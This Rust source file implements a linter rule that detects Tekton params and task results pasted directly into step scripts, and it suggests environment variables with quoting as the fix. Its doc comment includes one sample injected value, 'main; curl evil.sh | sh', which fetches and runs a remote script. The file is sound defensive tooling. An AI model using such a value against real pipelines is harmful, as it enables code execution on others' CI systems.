//! `$(params...)` and task results pasted into a `script`.

use crate::check::{Checker, Field, TaskSite, refs, task_specs, task_strings};
use crate::declare_code;
use crate::diag::Diagnostic;
use crate::model::ParamType;
use crate::vars::{RefKind, Reference, Selector};
use std::collections::HashSet;

declare_code! {
    /// # A param or result pasted into a script
    ///
    /// Tekton replaces `$(params.x)` in a `script` with the text of the value before the
    /// script runs, so the value becomes shell code: a value such as `main; curl evil.sh | sh`
    /// or one with a quote runs as a command (script injection). Values from PipelineRun
    /// params, webhooks (Tekton Triggers) and other tasks' results are not to be trusted.
    ///
    /// Pass the value through an environment variable and quote it; the shell then never
    /// reads it as code. Params with an `enum` are not reported: their values are fixed.
    ///
    /// ## Example
    /// ```yaml
    /// - name: checkout
    ///   script: git checkout $(params.revision)
    /// ```
    /// Write instead:
    /// ```yaml
    /// - name: checkout
    ///   env:
    ///     - name: REVISION
    ///       value: $(params.revision)
    ///   script: git checkout "$REVISION"
    /// ```
    pub static SCRIPT_INJECTION = "tkc::lint::script-injection", Warning;
}

/// An environment variable name for a reference: `$(params.git-revision)` → `GIT_REVISION`.
pub fn env_name(r: &Reference) -> String {
    let base = match &r.kind {
        RefKind::Param { name, selector, .. } => match selector {
            Selector::Key(k) => format!("{name}_{k}"),
            Selector::Index(i) => format!("{name}_{i}"),
            _ => name.clone(),
        },
        RefKind::TaskResult { task, result, .. } => format!("{task}_{result}"),
        _ => r.expr.clone(),
    };
    let mut out: String = base
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if out.starts_with(|c: char| c.is_ascii_digit()) {
        out.insert(0, '_');
    }
    out
}

pub fn run(cx: &mut Checker) {
    let world = cx.world;
    for task in task_specs(world) {
        // Params with fixed values, and arrays and objects (whole ones cannot go into a script
        // at all: the params family reports that).
        let skipped: HashSet<&str> = task
            .spec
            .params
            .iter()
            .filter(|p| !p.r#enum.is_empty() || p.param_type() != Some(ParamType::String))
            .map(|p| p.name.as_str())
            .collect();
        let inline_in_pipeline = matches!(task.site, TaskSite::InPipeline { .. });
        for s in task_strings(task.spec) {
            if s.field != Field::Script || !s.text.text.contains("$(") {
                continue;
            }
            let injected: Vec<_> = refs(world, s.text)
                .into_iter()
                .filter(|(r, _)| match &r.kind {
                    RefKind::Param { name, selector, .. } => match selector {
                        Selector::Whole => !skipped.contains(name.as_str()),
                        Selector::Star => false,
                        // An array item or an object key is a string.
                        Selector::Index(_) | Selector::Key(_) => true,
                    },
                    RefKind::TaskResult { .. } => inline_in_pipeline,
                    _ => false,
                })
                .collect();
            let Some((first, first_span)) = injected.first() else {
                continue;
            };
            let mut seen = HashSet::new();
            let mut env = String::from("env:");
            let mut names = Vec::new();
            for (r, _) in &injected {
                if seen.insert(r.expr.clone()) {
                    let var = env_name(r);
                    env.push_str(&format!("\n  - name: {var}\n    value: {r}"));
                    names.push(format!("\"${var}\""));
                }
            }
            let what = match &first.kind {
                RefKind::TaskResult { .. } => "a task result",
                _ => "a param",
            };
            let message = if injected.len() == 1 {
                format!("`{first}` is pasted into the script as shell code")
            } else {
                format!(
                    "{} values are pasted into the script as shell code",
                    injected.len()
                )
            };
            let mut d = Diagnostic::new(&SCRIPT_INJECTION, message).with_label(
                *first_span,
                format!("{what}'s value becomes part of the script"),
            );
            for (_, span) in injected.iter().skip(1) {
                d = d.with_secondary(*span, "pasted here too");
            }
            cx.report(d.with_help(format!(
                "pass it through the step's env and quote it:\n{env}\nthen use {} in the script",
                names.join(", ")
            )));
        }
    }
}
